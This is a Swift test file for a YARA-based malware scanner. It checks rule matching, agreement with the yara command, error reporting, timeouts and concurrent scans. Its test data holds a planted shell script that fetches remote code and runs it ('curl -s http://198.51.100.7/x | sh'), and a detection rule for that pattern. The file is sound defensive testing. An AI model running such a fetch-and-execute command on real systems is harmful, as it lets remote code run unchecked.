import Foundation
import Testing
@testable import ImageChecks

struct YaraDetectorTests {
    static let rules = """
        rule Planted_Marker : backdoor linux
        {
            meta:
                description = "Planted test marker"
                severity = "critical"
                author = "palisade"
            strings:
                $marker = "PALISADE-PLANTED-MARKER"
            condition:
                $marker
        }

        rule Shell_Dropper
        {
            strings:
                $a = "curl -s http://" nocase
                $b = "| sh"
            condition:
                all of them
        }

        rule Never_Matches
        {
            strings:
                $x = { DE AD BE EF 13 37 }
            condition:
                $x
        }

        rule Evil_Name
        {
            condition:
                filename == "evil.sh" and extension == ".sh"
        }
        """

    static let planted = "#!/bin/sh\n# PALISADE-PLANTED-MARKER\ncurl -s http://198.51.100.7/x | sh\n"

    @Test func ruleMatchesPlantedFile() throws {
        try MalwareTestSupport.withTemporaryDirectory { directory in
            try MalwareTestSupport.write(Self.rules, "rules/test.yar", in: directory)
            let scanner = try MalwareScanner(configuration: MalwareConfiguration(
                yaraPaths: [directory.appendingPathComponent("rules").path], builtins: false
            ))
            let findings = scanner.scan(path: "/opt/run.sh", data: Data(Self.planted.utf8))
            #expect(findings.map(\.ruleID) == ["Planted_Marker", "Shell_Dropper"])
            let marker = try #require(findings.first)
            #expect(marker.detector == .yara)
            #expect(marker.namespace == "test.yar")
            #expect(marker.tags == ["backdoor", "linux"])
            #expect(marker.description == "Planted test marker")
            #expect(marker.severity == .critical)
            #expect(marker.sha256 == MalwareDigest.sha256(Data(Self.planted.utf8)))
            #expect(findings[1].severity == .high)
            #expect(findings[1].description.contains("Shell_Dropper"))
        }
    }

    @Test func externalsDescribeTheFile() throws {
        try MalwareTestSupport.withTemporaryDirectory { directory in
            let rules = try MalwareTestSupport.write(Self.rules, "test.yara", in: directory)
            let scanner = try MalwareScanner(configuration: MalwareConfiguration(yaraPaths: [rules.path], builtins: false))
            #expect(scanner.scan(path: "/tmp/evil.sh", data: Data("x".utf8)).map(\.ruleID) == ["Evil_Name"])
            #expect(scanner.scan(path: "/tmp/good.sh", data: Data("x".utf8)).isEmpty)
        }
    }

    @Test // the yara command comes with Debian's yara (scripts/setup installs it)
    func yaraCommandAgrees() throws {
        let yara = try #require(MalwareTestSupport.tool("yara"))
        try MalwareTestSupport.withTemporaryDirectory { directory in
            let rules = try MalwareTestSupport.write(Self.rules, "test.yar", in: directory)
            let scanner = try MalwareScanner(configuration: MalwareConfiguration(yaraPaths: [rules.path], builtins: false))
            let samples = [Self.planted, "nothing here", "curl -s http://x | sh", "PALISADE-PLANTED-MARKER"]
            for (index, sample) in samples.enumerated() {
                let file = try MalwareTestSupport.write(sample, "sample\(index).bin", in: directory)
                let externals = ["-d", "filename=sample\(index).bin", "-d", "extension=.bin"]
                let (status, output) = try MalwareTestSupport.run(yara, externals + [rules.path, file.path])
                #expect(status == 0, "\(output)")
                let expected = Set(output.split(separator: "\n").compactMap { $0.split(separator: " ").first.map(String.init) })
                let found = Set(scanner.scan(path: file.path, data: Data(sample.utf8)).map(\.ruleID))
                #expect(found == expected, "sample \(index)")
            }
        }
    }

    @Test func syntaxErrorNamesFileAndLine() throws {
        let broken = "rule Good { condition: true }\n\nrule Broken {\n  strings:\n    $a = \"x\"\n  condition:\n    $b\n}\n"
        try MalwareTestSupport.withTemporaryDirectory { directory in
            try MalwareTestSupport.write(Self.rules, "rules/a-good.yar", in: directory)
            let file = try MalwareTestSupport.write(broken, "rules/b-broken.yar", in: directory)
            let error = try #require(throws: MalwareConfigurationError.self) {
                try MalwareScanner(configuration: MalwareConfiguration(yaraPaths: [directory.appendingPathComponent("rules").path]))
            }
            #expect(error.code == .invalidYaraRule)
            #expect(error.fileName == file.path)
            #expect(error.message.contains("$b"))
            let line = try #require(error.line)
            if let yara = MalwareTestSupport.tool("yara") {
                // The yara command reports the same line: "error: rule "Broken" in FILE(LINE): …".
                let (_, output) = try MalwareTestSupport.run(yara, [file.path, file.path])
                #expect(output.contains("(\(line)): "), "\(output)")
            }
            #expect(error.description.hasPrefix("\(file.path):\(line): YARA: "))
        }
    }

    @Test func garbageRuleFileIsAnErrorNotACrash() throws {
        try MalwareTestSupport.withTemporaryDirectory { directory in
            var garbage = Data((0..<4096).map { UInt8(truncatingIfNeeded: $0 &* 7919) })
            garbage.append(contentsOf: Array("rule { { { ".utf8))
            let file = try MalwareTestSupport.write(garbage, "garbage.yar", in: directory)
            let error = try #require(throws: MalwareConfigurationError.self) {
                try MalwareScanner(configuration: MalwareConfiguration(yaraPaths: [file.path]))
            }
            #expect(error.code == .invalidYaraRule)
            #expect(error.fileName == file.path)
        }
    }

    @Test func directoryWithoutRulesIsAnError() throws {
        try MalwareTestSupport.withTemporaryDirectory { directory in
            try MalwareTestSupport.write("not a rule", "README.md", in: directory)
            let error = try #require(throws: MalwareConfigurationError.self) {
                try MalwareScanner(configuration: MalwareConfiguration(yaraPaths: [directory.path]))
            }
            #expect(error.code == .noRuleFiles)
            #expect(error.fileName == directory.path)
        }
        let missing = try #require(throws: MalwareConfigurationError.self) {
            try MalwareScanner(configuration: MalwareConfiguration(yaraPaths: ["/nonexistent/rules"]))
        }
        #expect(missing.code == .unreadableFile)
    }

    @Test func slowRuleTimesOutInsteadOfHanging() throws {
        let slow = """
            rule Quadratic {
                condition:
                    for any i in (0..filesize - 1) : (
                        for any j in (0..filesize - 1) : ( uint8(i) == 0xFF and uint8(j) == 0xFE )
                    )
            }
            """
        try MalwareTestSupport.withTemporaryDirectory { directory in
            let rules = try MalwareTestSupport.write(slow, "slow.yar", in: directory)
            let scanner = try MalwareScanner(configuration: MalwareConfiguration(
                yaraPaths: [rules.path], builtins: false, yaraTimeoutSeconds: 1
            ))
            var errors: [MalwareScanError] = []
            let clock = ContinuousClock()
            let elapsed = clock.measure {
                let findings = scanner.scan(path: "/big.bin", data: Data(count: 256 << 10)) { errors.append($0) }
                #expect(findings.isEmpty)
            }
            #expect(errors.map(\.code) == [.timeout])
            #expect(errors.first?.detector == .yara)
            #expect(errors.first?.path == "/big.bin")
            #expect(elapsed < .seconds(20))
        }
    }

    @Test func concurrentScansAgree() async throws {
        try await MalwareTestSupport.withTemporaryDirectory { directory in
            let rules = try MalwareTestSupport.write(Self.rules, "test.yar", in: directory)
            let scanner = try MalwareScanner(configuration: MalwareConfiguration(yaraPaths: [rules.path], builtins: false))
            let results = await withTaskGroup(of: (Int, [String]).self) { group in
                for index in 0..<32 {
                    group.addTask {
                        let text = index.isMultiple(of: 2) ? Self.planted : "clean \(index)"
                        let data = Data((text + String(repeating: "filler ", count: 10_000)).utf8)
                        return (index, scanner.scan(path: "/f\(index)", data: data).map(\.ruleID))
                    }
                }
                var results: [Int: [String]] = [:]
                for await (index, ids) in group { results[index] = ids }
                return results
            }
            for index in 0..<32 {
                #expect(results[index] == (index.isMultiple(of: 2) ? ["Planted_Marker", "Shell_Dropper"] : []))
            }
        }
    }

    @Test func versionFollowsTheRules() throws {
        try MalwareTestSupport.withTemporaryDirectory { directory in
            let rules = try MalwareTestSupport.write(Self.rules, "test.yar", in: directory)
            let configuration = MalwareConfiguration(yaraPaths: [rules.path], builtins: false)
            let first = try MalwareScanner(configuration: configuration).version
            #expect(try MalwareScanner(configuration: configuration).version == first)
            try MalwareTestSupport.write(Self.rules + "\nrule Extra { condition: false }\n", "test.yar", in: directory)
            #expect(try MalwareScanner(configuration: configuration).version != first)
        }
    }
}
